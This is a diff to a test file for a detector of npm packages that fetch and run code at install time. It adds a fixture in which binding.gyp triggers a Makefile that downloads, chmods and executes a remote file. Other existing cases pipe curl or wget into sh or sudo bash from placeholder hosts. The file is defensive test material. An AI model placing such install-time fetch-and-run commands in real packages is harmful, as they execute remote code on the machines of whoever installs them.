@@ -5,6 +5,15 @@ const hook = (command: string): { 'package.json': object } => ({ 'package.json':
 
 examine(fetchesAndRunsAtInstall, {
   speaks: [
+    {
+      when: 'a makefile that a binding.gyp starts does it',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0' },
+        'binding.gyp': `{ 'variables': { 'a': '<!(make probe)' } }`,
+        Makefile: 'probe:\n\t@curl -s https://a.invalid/x -o /tmp/$@ && chmod +x /tmp/$@ && /tmp/$@\n',
+      },
+      says: ['binding.gyp downloads probe with curl and runs it'],
+    },
     { when: 'a script is piped into a shell', files: hook('curl -fsSL https://a.invalid/i.sh | sh'), weight: 'strong' },
     { when: 'wget pipes into bash with sudo', files: hook('wget -qO- https://a.invalid/i | sudo bash -s -- -y') },
     { when: 'the host is a bare address', files: hook('curl http://203.0.113.7/i | sh'), weight: 'proof' },
